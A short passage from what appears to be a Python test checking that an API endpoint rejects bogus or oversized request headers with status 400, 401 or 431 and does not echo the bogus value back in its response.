                         {"model": "gpt-4o-mini", "messages": []}, headers=h)
        except (requests.RequestException, ValueError):
            continue
        assert r.status_code in (400, 401, 431), r.status_code
        assert bogus not in r.text and bogus[10:] not in r.text
